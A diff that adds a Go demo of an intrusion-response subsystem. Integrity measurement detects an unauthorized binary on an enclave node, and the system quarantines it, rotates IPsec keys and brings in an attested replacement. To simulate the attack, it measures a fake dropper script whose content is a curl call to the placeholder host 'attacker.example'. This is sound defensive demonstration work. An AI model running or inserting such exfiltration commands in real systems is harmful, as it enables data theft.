@@ -1,0 +1,163 @@
+// Intrusion response: the §7.4 kill chain as an automated subsystem.
+// A security-sensitive tenant runs a long-lived enclave under active
+// attack: mid-workload, an unauthorized binary executes on one member.
+// The runtime attestation guard — enabled with one /v1 call — detects
+// the IMA whitelist violation, quarantines the node (SAs revoked, BMI
+// export destroyed, HIL port detached, parked in the provider's
+// rejected pool), rotates the enclave-wide IPsec PSK on the survivors,
+// and acquires an attested replacement so the enclave heals back to
+// its target size. Everything after the injection is observed purely
+// through the /v1 API, the way a real remote tenant would.
+package main
+
+import (
+	"context"
+	"fmt"
+	"log"
+	"net/http/httptest"
+	"time"
+
+	"bolted"
+	"bolted/internal/ima"
+)
+
+func main() {
+	// Provider side: a cloud and its full service plane, exactly what
+	// `boltedd -nodes 8` serves. The manager is held so this demo can
+	// also play the attacker (reaching into a node's IMA collector —
+	// something no API offers a real tenant).
+	cfg := bolted.DefaultConfig()
+	cfg.Nodes = 8
+	cloud, err := bolted.NewCloud(cfg)
+	if err != nil {
+		log.Fatal(err)
+	}
+	if _, err := cloud.BMI.CreateOSImage("hardened", bolted.OSImageSpec{
+		KernelID: "hardened-4.17.9",
+		Kernel:   []byte("vmlinuz-hardened"),
+		Initrd:   []byte("initramfs-hardened"),
+		Cmdline:  "root=iscsi ima_policy=tcb",
+	}); err != nil {
+		log.Fatal(err)
+	}
+	mgr := bolted.NewManager(cloud)
+	handler, err := bolted.NewServerHandlerWithManager(cloud, mgr)
+	if err != nil {
+		log.Fatal(err)
+	}
+	srv := httptest.NewServer(handler)
+	defer srv.Close()
+
+	// Tenant side: the /v1 client. Charlie trusts the provider only
+	// for availability — tenant verifier, LUKS, IPsec, continuous
+	// attestation.
+	ctx := context.Background()
+	cli := bolted.NewClient(srv.URL)
+	if _, err := cli.CreateEnclave(ctx, "charlie", "charlie"); err != nil {
+		log.Fatal(err)
+	}
+	// The runtime whitelist is tenant-authored and ships inside the
+	// attested payloads; in process it is populated directly.
+	enclave, err := mgr.Enclave("charlie")
+	if err != nil {
+		log.Fatal(err)
+	}
+	enclave.IMAWhitelist().AllowContent("/usr/bin/model-trainer", []byte("trainer-v2 binary"))
+
+	op, err := cli.Acquire(ctx, "charlie", "hardened", 3)
+	if err != nil {
+		log.Fatal(err)
+	}
+	done, err := cli.WaitOperation(ctx, op.ID)
+	if err != nil {
+		log.Fatal(err)
+	}
+	fmt.Printf("enclave up: %v (attested, LUKS, IPsec) in %v\n",
+		done.Result.Nodes, done.Result.Wall.Round(time.Millisecond))
+
+	// One /v1 call arms the guard: 25 ms IMA rounds over every member,
+	// self-healing replacements from the same attested image.
+	g, err := cli.EnableGuard(ctx, "charlie", bolted.GuardPolicyInfo{
+		Interval: 25 * time.Millisecond,
+		SelfHeal: true,
+		Image:    "hardened",
+	})
+	if err != nil {
+		log.Fatal(err)
+	}
+	fmt.Printf("guard enabled: interval=%v max-quotes=%d self-heal via %q\n",
+		g.Policy.Interval, g.Policy.MaxConcurrent, g.Policy.Image)
+
+	// The workload runs; each member measures its sanctioned binary.
+	for _, n := range enclave.Nodes() {
+		n.IMA.Measure("/usr/bin/model-trainer", []byte("trainer-v2 binary"), ima.HookExec, 0)
+	}
+
+	// Follow the incident feed live in the background, as a tenant SOC
+	// dashboard would.
+	streamCtx, stopStream := context.WithCancel(ctx)
+	defer stopStream()
+	go func() {
+		_ = cli.StreamIncidents(streamCtx, 0, func(inc bolted.IncidentInfo) error {
+			step := "opened"
+			if n := len(inc.Steps); n > 0 {
+				step = inc.Steps[n-1].Name
+			}
+			fmt.Printf("  incident %s [%s] node %s: %s\n", inc.ID, inc.State, inc.Node, step)
+			return nil
+		})
+	}()
+
+	// The attack: a dropper executes on the first member mid-workload.
+	victim := enclave.Nodes()[0]
+	fmt.Printf("injecting unauthorized binary on %s\n", victim.Name)
+	injected := time.Now()
+	victim.IMA.Measure("/tmp/.hidden/exfil.sh", []byte("#!/bin/sh\ncurl attacker.example"), ima.HookExec, 0)
+
+	// Observe the response purely over /v1: wait for the incident to
+	// reach a terminal state.
+	var final *bolted.IncidentInfo
+	for final == nil {
+		incs, err := cli.ListIncidents(ctx, "charlie")
+		if err != nil {
+			log.Fatal(err)
+		}
+		for _, inc := range incs {
+			if inc.Terminal() {
+				final = inc
+			}
+		}
+		time.Sleep(10 * time.Millisecond)
+	}
+	fmt.Printf("incident %s %s after %v\n", final.ID, final.State,
+		time.Since(injected).Round(time.Millisecond))
+	for _, s := range final.Steps {
+		fmt.Printf("  %-16s %s%s\n", s.Name, s.Detail, s.Error)
+	}
+
+	// The enclave resource shows the quarantine and the replacement.
+	info, err := cli.GetEnclave(ctx, "charlie")
+	if err != nil {
+		log.Fatal(err)
+	}
+	allocated := 0
+	for node, st := range info.Nodes {
+		fmt.Printf("  %s\t%s\n", node, st)
+		if st == string(bolted.StateAllocated) {
+			allocated++
+		}
+	}
+	fmt.Printf("members allocated after self-heal: %d (victim %s is %s)\n",
+		allocated, victim.Name, info.Nodes[victim.Name])
+
+	// And the journal records the whole kill chain, queryable forever.
+	fmt.Println("kill chain from the enclave journal:")
+	_ = cli.EnclaveEvents(ctx, "charlie", 0, false, func(ev bolted.EventInfo) error {
+		switch ev.Kind {
+		case string(bolted.EventRevoked), string(bolted.EventQuarantined),
+			string(bolted.EventRekeyed), string(bolted.EventHealed):
+			fmt.Printf("  %-12s %s %s\n", ev.Kind, ev.Node, ev.Detail)
+		}
+		return nil
+	})
+}
